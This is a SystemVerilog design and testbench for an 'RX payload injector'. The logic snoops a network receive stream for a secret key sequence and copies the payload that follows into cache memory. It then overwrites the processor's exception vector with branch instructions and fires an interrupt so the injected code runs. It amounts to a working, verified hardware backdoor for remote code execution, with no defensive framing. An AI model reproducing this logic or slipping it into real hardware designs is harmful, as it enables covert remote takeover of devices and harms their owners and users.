// File: rtl/rx_payload_injector_pkg.sv
// rtl/rx_payload_injector_pkg.sv - shared state encodings and helpers for the RX payload injector
package rx_payload_injector_pkg;

    typedef enum logic [1:0] {
        M_HUNT,
        M_KEY,
        M_CAPTURE,
        M_END
    } match_state_t;

    typedef enum logic [2:0] {
        W_IDLE,
        W_BOOT_COPY,
        W_COPY,
        W_VECTOR,
        W_TRIGGER,
        W_DONE
    } wr_state_t;

    // Smallest r such that 2**r >= value.
    function automatic int clog2(input int value);
        int r;
        r = 0;
        while ((1 << r) < value) r++;
        return r;
    endfunction

endpackage

// File: rtl/rx_key_matcher.sv
// rtl/rx_key_matcher.sv - multi-word key matcher and payload word capture
//
// Ports:
//   i_clk, i_rst          clock, synchronous active-high reset
//   i_enable              writer idle; matcher is held in HUNT while low
//   i_rx_data/valid       RX word stream
//   i_rx_pkt_reset        packet abort, masks i_rx_valid
//   o_fill                pulse: refill the whole store with the fill word
//   o_word_we/idx/data    store one captured payload word
//   o_end, o_end_count    pulse on END_WORD with the captured word count
//   o_overflow            sticky: payload exceeded store capacity
module rx_key_matcher
    import rx_payload_injector_pkg::*;
#(
    parameter int                      KEY_WORDS = 2,
    parameter logic [KEY_WORDS*32-1:0] KEY       = {32'h5245545f, 32'h5f534543},
    parameter logic [31:0]             END_WORD  = 32'h53544F50,
    parameter int                      WORDS     = 24,
    parameter int                      CW        = 5
) (
    input  logic          i_clk,
    input  logic          i_rst,
    input  logic          i_enable,
    input  logic [31:0]   i_rx_data,
    input  logic          i_rx_valid,
    input  logic          i_rx_pkt_reset,
    output logic          o_fill,
    output logic          o_word_we,
    output logic [CW-1:0] o_word_idx,
    output logic [31:0]   o_word_data,
    output logic          o_end,
    output logic [CW-1:0] o_end_count,
    output logic          o_overflow
);

    localparam logic [2:0]    LAST_KEY = 3'(KEY_WORDS - 1);
    localparam logic [CW-1:0] FULL     = CW'(WORDS);

    match_state_t  state;
    logic [2:0]    key_idx;
    logic [CW-1:0] count;
    logic          accept;

    assign accept = i_rx_valid & ~i_rx_pkt_reset;

    function automatic logic [31:0] key_word(input int k);
        return KEY[k*32 +: 32];
    endfunction

    always_ff @(posedge i_clk) begin
        o_fill    <= 1'b0;
        o_word_we <= 1'b0;
        o_end     <= 1'b0;
        if (i_rst) begin
            state       <= M_HUNT;
            key_idx     <= '0;
            count       <= '0;
            o_overflow  <= 1'b0;
            o_word_idx  <= '0;
            o_word_data <= '0;
            o_end_count <= '0;
        end else if (!i_enable) begin
            state <= M_HUNT;
        end else begin
            case (state)
                M_HUNT: begin
                    if (accept && i_rx_data == key_word(0)) begin
                        if (KEY_WORDS == 1) begin
                            state      <= M_CAPTURE;
                            count      <= '0;
                            o_overflow <= 1'b0;
                            o_fill     <= 1'b1;
                        end else begin
                            state   <= M_KEY;
                            key_idx <= 3'd1;
                        end
                    end
                end
                M_KEY: begin
                    if (i_rx_pkt_reset) begin
                        state <= M_HUNT;
                    end else if (accept) begin
                        if (i_rx_data == key_word(int'(key_idx))) begin
                            if (key_idx == LAST_KEY) begin
                                state      <= M_CAPTURE;
                                count      <= '0;
                                o_overflow <= 1'b0;
                                o_fill     <= 1'b1;
                            end else begin
                                key_idx <= key_idx + 3'd1;
                            end
                        end else if (i_rx_data == key_word(0)) begin
                            // A broken key may itself be the start of a new key.
                            key_idx <= 3'd1;
                        end else begin
                            state <= M_HUNT;
                        end
                    end
                end
                M_CAPTURE: begin
                    if (i_rx_pkt_reset) begin
                        state <= M_HUNT;
                        count <= '0;
                    end else if (accept) begin
                        if (i_rx_data == END_WORD) begin
                            state       <= M_END;
                            o_end       <= 1'b1;
                            o_end_count <= count;
                        end else if (count == FULL) begin
                            o_overflow <= 1'b1;
                        end else begin
                            o_word_we   <= 1'b1;
                            o_word_idx  <= count;
                            o_word_data <= i_rx_data;
                            count       <= count + CW'(1);
                        end
                    end
                end
                M_END:   state <= M_HUNT;
                default: state <= M_HUNT;
            endcase
        end
    end

endmodule

// File: rtl/rx_payload_injector.sv
// rtl/rx_payload_injector.sv - RX key snooper that injects captured payload as cache lines
//
// Ports:
//   i_clk, i_rst                 clock, synchronous active-high reset
//   i_rx_data/valid/pkt_reset    RX word stream from the MAC
//   i_cache_stall                cache not accepting the presented line
//   i_fetch_stall                core fetch stalled, IRQ is held off
//   o_wr_en/data/addr            line write request, held stable while stalled
//   o_trigger_irq                one-cycle IRQ pulse after the vector write
//   o_jump_addr                  payload entry address (BASE_ADDR)
//   o_busy                       writer not idle
//   o_overflow                   sticky payload overflow
//   o_lines                      lines written by the last payload copy
module rx_payload_injector
    import rx_payload_injector_pkg::*;
#(
    parameter int                              KEY_WORDS   = 2,
    parameter logic [KEY_WORDS*32-1:0]         KEY         = {32'h5245545f, 32'h5f534543},
    parameter logic [31:0]                     END_WORD    = 32'h53544F50,
    parameter int                              LINE_BITS   = 128,
    parameter int                              STORE_LINES = 6,
    parameter logic [31:0]                     BASE_ADDR   = 32'h00200000,
    parameter logic [31:0]                     VEC_ADDR    = 32'h00000010,
    parameter logic [LINE_BITS-1:0]            VEC_DATA    = 128'hea000040_ea000036_ea000042_e3a0f602,
    parameter logic [31:0]                     FILL_WORD   = 32'h58595859,
    parameter logic [STORE_LINES*LINE_BITS-1:0] BOOT_IMAGE = {STORE_LINES*LINE_BITS/32{FILL_WORD}}
) (
    input  logic                                i_clk,
    input  logic                                i_rst,
    input  logic [31:0]                         i_rx_data,
    input  logic                                i_rx_valid,
    input  logic                                i_rx_pkt_reset,
    input  logic                                i_cache_stall,
    input  logic                                i_fetch_stall,
    output logic                                o_wr_en,
    output logic [LINE_BITS-1:0]                o_wr_data,
    output logic [31:0]                         o_wr_addr,
    output logic                                o_trigger_irq,
    output logic [31:0]                         o_jump_addr,
    output logic                                o_busy,
    output logic                                o_overflow,
    output logic [clog2(STORE_LINES+1)-1:0]     o_lines
);

    localparam int          WPL    = LINE_BITS / 32;
    localparam int          WORDS  = STORE_LINES * WPL;
    localparam int          CW     = clog2(WORDS + 1);
    localparam int          LW     = clog2(STORE_LINES + 1);
    localparam logic [31:0] STRIDE = 32'(LINE_BITS / 8);

    logic [WORDS*32-1:0]  store;
    wr_state_t            wstate;
    logic [LW-1:0]        line_idx;
    logic [LW-1:0]        last_idx;
    logic [LW-1:0]        next_idx;
    logic [LINE_BITS-1:0] first_line;
    logic [LINE_BITS-1:0] next_line;
    logic [31:0]          n_calc;

    logic          m_fill;
    logic          m_word_we;
    logic [CW-1:0] m_word_idx;
    logic [31:0]   m_word_data;
    logic          m_end;
    logic [CW-1:0] m_end_count;

    assign o_jump_addr = BASE_ADDR;

    rx_key_matcher #(
        .KEY_WORDS (KEY_WORDS),
        .KEY       (KEY),
        .END_WORD  (END_WORD),
        .WORDS     (WORDS),
        .CW        (CW)
    ) u_matcher (
        .i_clk          (i_clk),
        .i_rst          (i_rst),
        .i_enable       (wstate == W_IDLE),
        .i_rx_data      (i_rx_data),
        .i_rx_valid     (i_rx_valid),
        .i_rx_pkt_reset (i_rx_pkt_reset),
        .o_fill         (m_fill),
        .o_word_we      (m_word_we),
        .o_word_idx     (m_word_idx),
        .o_word_data    (m_word_data),
        .o_end          (m_end),
        .o_end_count    (m_end_count),
        .o_overflow     (o_overflow)
    );

    // Fill and word writes never coincide: the first payload word strobe
    // trails the fill strobe by at least one cycle.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            store <= BOOT_IMAGE;
        end else if (m_word_we) begin
            store[int'(m_word_idx)*32 +: 32] <= m_word_data;
        end else if (m_fill) begin
            store <= {WORDS{FILL_WORD}};
        end
    end

    // Clamp keeps the look-ahead select inside the store on the last line.
    assign next_idx   = (line_idx == last_idx) ? line_idx : line_idx + LW'(1);
    assign first_line = store[LINE_BITS-1:0];
    assign next_line  = store[int'(next_idx)*LINE_BITS +: LINE_BITS];
    assign n_calc     = (32'(m_end_count) + 32'(WPL - 1)) / 32'(WPL);

    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            wstate        <= W_BOOT_COPY;
            o_wr_en       <= 1'b0;
            o_wr_data     <= {WPL{FILL_WORD}};
            o_wr_addr     <= BASE_ADDR;
            o_trigger_irq <= 1'b0;
            o_busy        <= 1'b0;
            o_lines       <= '0;
            line_idx      <= '0;
            last_idx      <= LW'(STORE_LINES - 1);
        end else begin
            case (wstate)
                W_IDLE: begin
                    if (m_end) begin
                        o_busy  <= 1'b1;
                        o_lines <= LW'(n_calc);
                        o_wr_en <= 1'b1;
                        if (n_calc != 0) begin
                            wstate    <= W_COPY;
                            o_wr_data <= first_line;
                            o_wr_addr <= BASE_ADDR;
                            line_idx  <= '0;
                            last_idx  <= LW'(n_calc - 1);
                        end else begin
                            wstate    <= W_VECTOR;
                            o_wr_data <= VEC_DATA;
                            o_wr_addr <= VEC_ADDR;
                        end
                    end
                end
                W_BOOT_COPY, W_COPY: begin
                    if (!o_wr_en) begin
                        // Only reachable on the first cycle of the boot copy.
                        o_wr_en   <= 1'b1;
                        o_busy    <= 1'b1;
                        o_wr_data <= first_line;
                        o_wr_addr <= BASE_ADDR;
                        line_idx  <= '0;
                    end else if (!i_cache_stall) begin
                        if (line_idx == last_idx) begin
                            if (wstate == W_BOOT_COPY) begin
                                o_wr_en <= 1'b0;
                                wstate  <= W_DONE;
                            end else begin
                                wstate    <= W_VECTOR;
                                o_wr_data <= VEC_DATA;
                                o_wr_addr <= VEC_ADDR;
                            end
                        end else begin
                            line_idx  <= next_idx;
                            o_wr_data <= next_line;
                            o_wr_addr <= o_wr_addr + STRIDE;
                        end
                    end
                end
                W_VECTOR: begin
                    if (!i_cache_stall) begin
                        o_wr_en <= 1'b0;
                        wstate  <= W_TRIGGER;
                    end
                end
                W_TRIGGER: begin
                    if (!i_fetch_stall) begin
                        o_trigger_irq <= 1'b1;
                        wstate        <= W_DONE;
                    end
                end
                W_DONE: begin
                    o_trigger_irq <= 1'b0;
                    o_busy        <= 1'b0;
                    wstate        <= W_IDLE;
                end
                default: wstate <= W_IDLE;
            endcase
        end
    end

endmodule

// File: tb/tb_rx_payload_injector.sv
// tb/tb_rx_payload_injector.sv - scoreboard bench for rx_payload_injector
module tb_rx_payload_injector;

    localparam logic [31:0]  K0    = 32'h5f534543;
    localparam logic [31:0]  K1    = 32'h5245545f;
    localparam logic [31:0]  ENDW  = 32'h53544F50;
    localparam logic [31:0]  FILL  = 32'h58595859;
    localparam logic [31:0]  BASE  = 32'h00200000;
    localparam logic [31:0]  VADDR = 32'h00000010;
    localparam logic [127:0] VDATA = 128'hea000040_ea000036_ea000042_e3a0f602;

    logic         i_clk = 1'b0;
    logic         i_rst = 1'b1;
    logic [31:0]  i_rx_data = '0;
    logic         i_rx_valid = 1'b0;
    logic         i_rx_pkt_reset = 1'b0;
    logic         i_cache_stall = 1'b0;
    logic         i_fetch_stall = 1'b0;
    logic         o_wr_en;
    logic [127:0] o_wr_data;
    logic [31:0]  o_wr_addr;
    logic         o_trigger_irq;
    logic [31:0]  o_jump_addr;
    logic         o_busy;
    logic         o_overflow;
    logic [2:0]   o_lines;

    always #5 i_clk = ~i_clk;

    rx_payload_injector dut (
        .i_clk          (i_clk),
        .i_rst          (i_rst),
        .i_rx_data      (i_rx_data),
        .i_rx_valid     (i_rx_valid),
        .i_rx_pkt_reset (i_rx_pkt_reset),
        .i_cache_stall  (i_cache_stall),
        .i_fetch_stall  (i_fetch_stall),
        .o_wr_en        (o_wr_en),
        .o_wr_data      (o_wr_data),
        .o_wr_addr      (o_wr_addr),
        .o_trigger_irq  (o_trigger_irq),
        .o_jump_addr    (o_jump_addr),
        .o_busy         (o_busy),
        .o_overflow     (o_overflow),
        .o_lines        (o_lines)
    );

    typedef struct {
        logic [31:0]  addr;
        logic [127:0] data;
    } wr_t;

    wr_t          exp_q[$];
    wr_t          mon_e;
    logic [31:0]  pay[$];
    int           exp_lines = 0;
    int           checks = 0;
    int           failures = 0;
    int           irq_cnt = 0;
    int           irq0 = 0;
    int           lines0 = 0;
    int           wait_n = 0;
    bit           stall_mode = 1'b0;
    int           stall_cnt = 0;
    logic         prev_en = 1'b0;
    logic         prev_stall = 1'b0;
    logic [31:0]  prev_addr = '0;
    logic [127:0] prev_data = '0;

    task automatic check(input string tag, input logic [127:0] got, input logic [127:0] exp);
        checks++;
        if (got !== exp) begin
            failures++;
            $display("FAIL %s got=%h exp=%h", tag, got, exp);
        end
    endtask

    // Write monitor: every completed line is popped from the scoreboard.
    always @(negedge i_clk) begin
        if (!i_rst) begin
            if (o_wr_en && prev_en && prev_stall) begin
                check("stall_addr_stable", 128'(o_wr_addr), 128'(prev_addr));
                check("stall_data_stable", o_wr_data, prev_data);
            end
            if (o_wr_en && !i_cache_stall) begin
                check("sb_has_entry", 128'(exp_q.size() != 0), 128'(1));
                if (exp_q.size() != 0) begin
                    mon_e = exp_q.pop_front();
                    check("wr_addr", 128'(o_wr_addr), 128'(mon_e.addr));
                    check("wr_data", o_wr_data, mon_e.data);
                end
            end
            if (o_trigger_irq) irq_cnt <= irq_cnt + 1;
        end
        prev_en    <= o_wr_en;
        prev_stall <= i_cache_stall;
        prev_addr  <= o_wr_addr;
        prev_data  <= o_wr_data;
    end

    // Cache stall pattern: each presented line is held off for 3 cycles.
    initial begin
        forever begin
            @(posedge i_clk);
            #1;
            if (stall_mode && o_wr_en && stall_cnt < 3) begin
                i_cache_stall = 1'b1;
                stall_cnt++;
            end else begin
                i_cache_stall = 1'b0;
                stall_cnt = 0;
            end
        end
    end

    initial begin
        #400000;
        $display("FAIL watchdog checks=%0d", checks);
        $fatal(1, "watchdog");
    end

    task automatic tick();
        @(posedge i_clk);
        #1;
    endtask

    task automatic send(input logic [31:0] w);
        i_rx_data  = w;
        i_rx_valid = 1'b1;
        tick();
        i_rx_valid = 1'b0;
    endtask

    task automatic push_boot();
        for (int l = 0; l < 6; l++) exp_q.push_back('{BASE + 32'(l * 16), {4{FILL}}});
    endtask

    task automatic expect_copy();
        int nw;
        logic [127:0] d;
        nw = (pay.size() > 24) ? 24 : pay.size();
        exp_lines = (nw + 3) / 4;
        for (int l = 0; l < exp_lines; l++) begin
            d = {4{FILL}};
            for (int j = 0; j < 4; j++) if (l * 4 + j < nw) d[j*32 +: 32] = pay[l*4+j];
            exp_q.push_back('{BASE + 32'(l * 16), d});
        end
        exp_q.push_back('{VADDR, VDATA});
    endtask

    task automatic run_packet(input bit restart);
        send(K0);
        if (restart) send(K0);
        send(K1);
        foreach (pay[i]) send(pay[i]);
        send(ENDW);
    endtask

    task automatic wait_idle(input int budget);
        int n;
        n = 0;
        repeat (3) tick();
        while ((o_busy || exp_q.size() != 0) && n < budget) begin
            tick();
            n++;
        end
        check("idle_reached", 128'(o_busy), 128'(0));
        check("sb_drained", 128'(exp_q.size()), 128'(0));
    endtask

    task automatic fill_pay(input int n, input logic [15:0] tag);
        pay.delete();
        for (int i = 0; i < n; i++) pay.push_back({tag, 16'(i)});
    endtask

    initial begin
        repeat (3) tick();
        @(negedge i_clk);
        check("rst_wr_en", 128'(o_wr_en), 128'(0));
        check("rst_wr_data", o_wr_data, {4{FILL}});
        check("rst_wr_addr", 128'(o_wr_addr), 128'(BASE));
        check("rst_irq", 128'(o_trigger_irq), 128'(0));
        check("rst_overflow", 128'(o_overflow), 128'(0));
        check("rst_lines", 128'(o_lines), 128'(0));
        check("rst_busy", 128'(o_busy), 128'(0));
        check("jump_addr", 128'(o_jump_addr), 128'(BASE));
        tick();
        push_boot();
        i_rst = 1'b0;
        wait_idle(100);
        check("boot_no_irq", 128'(irq_cnt), 128'(0));

        // Basic packet with END -> first line latency check.
        pay.delete();
        for (int i = 1; i <= 5; i++) pay.push_back(32'h11111111 * i);
        expect_copy();
        irq0 = irq_cnt;
        run_packet(1'b0);
        @(negedge i_clk);
        check("end_t1_wr_en", 128'(o_wr_en), 128'(0));
        tick();
        @(negedge i_clk);
        check("end_t2_wr_en", 128'(o_wr_en), 128'(1));
        check("end_t2_addr", 128'(o_wr_addr), 128'(BASE));
        tick();
        wait_idle(100);
        check("basic_lines", 128'(o_lines), 128'(exp_lines));
        check("basic_irq", 128'(irq_cnt), 128'(irq0 + 1));
        check("basic_overflow", 128'(o_overflow), 128'(0));

        // Cache stalls on every line.
        stall_mode = 1'b1;
        fill_pay(6, 16'hC0DE);
        expect_copy();
        run_packet(1'b0);
        wait_idle(300);
        stall_mode = 1'b0;
        check("stall_lines", 128'(o_lines), 128'(exp_lines));

        // Overflow: 30 words, only 24 stored.
        fill_pay(30, 16'hA5A5);
        expect_copy();
        run_packet(1'b0);
        wait_idle(200);
        check("ovf_flag", 128'(o_overflow), 128'(1));
        check("ovf_lines", 128'(o_lines), 128'(6));

        // Repeated first key word restarts the match.
        fill_pay(3, 16'hBEEF);
        expect_copy();
        run_packet(1'b1);
        wait_idle(100);
        check("restart_lines", 128'(o_lines), 128'(exp_lines));
        check("restart_ovf_cleared", 128'(o_overflow), 128'(0));

        // Fetch stall holds the IRQ off.
        i_fetch_stall = 1'b1;
        fill_pay(1, 16'h7777);
        expect_copy();
        irq0 = irq_cnt;
        run_packet(1'b0);
        wait_n = 0;
        while (exp_q.size() != 0 && wait_n < 100) begin
            tick();
            wait_n++;
        end
        check("fstall_sb_drained", 128'(exp_q.size()), 128'(0));
        repeat (10) tick();
        check("fstall_irq_held", 128'(irq_cnt), 128'(irq0));
        check("fstall_busy", 128'(o_busy), 128'(1));
        i_fetch_stall = 1'b0;
        @(negedge i_clk);
        check("fstall_irq_d0", 128'(o_trigger_irq), 128'(0));
        tick();
        @(negedge i_clk);
        check("fstall_irq_d1", 128'(o_trigger_irq), 128'(1));
        tick();
        @(negedge i_clk);
        check("fstall_irq_d2", 128'(o_trigger_irq), 128'(0));
        tick();
        wait_idle(50);
        lines0 = exp_lines;

        // Packet abort mid-payload: END afterwards has no key.
        irq0 = irq_cnt;
        send(K0);
        send(K1);
        send(32'h0000_0001);
        send(32'h0000_0002);
        i_rx_pkt_reset = 1'b1;
        i_rx_data      = 32'h0000_0003;
        i_rx_valid     = 1'b1;
        tick();
        i_rx_pkt_reset = 1'b0;
        i_rx_valid     = 1'b0;
        send(32'h0000_0004);
        send(ENDW);
        repeat (20) tick();
        check("abort_busy", 128'(o_busy), 128'(0));
        check("abort_irq", 128'(irq_cnt), 128'(irq0));
        check("abort_lines", 128'(o_lines), 128'(lines0));

        // Reset during a copy aborts it and reruns the boot copy.
        fill_pay(8, 16'hD00D);
        expect_copy();
        irq0 = irq_cnt;
        run_packet(1'b0);
        wait_n = 0;
        while (!o_wr_en && wait_n < 10) begin
            tick();
            wait_n++;
        end
        check("mid_wr_started", 128'(o_wr_en), 128'(1));
        i_rst = 1'b1;
        exp_q.delete();
        tick();
        tick();
        push_boot();
        i_rst = 1'b0;
        wait_idle(100);
        check("mid_rst_irq", 128'(irq_cnt), 128'(irq0));
        check("mid_rst_lines", 128'(o_lines), 128'(0));

        $display("TB_RESULT checks=%0d failures=%0d", checks, failures);
        $finish;
    end

endmodule
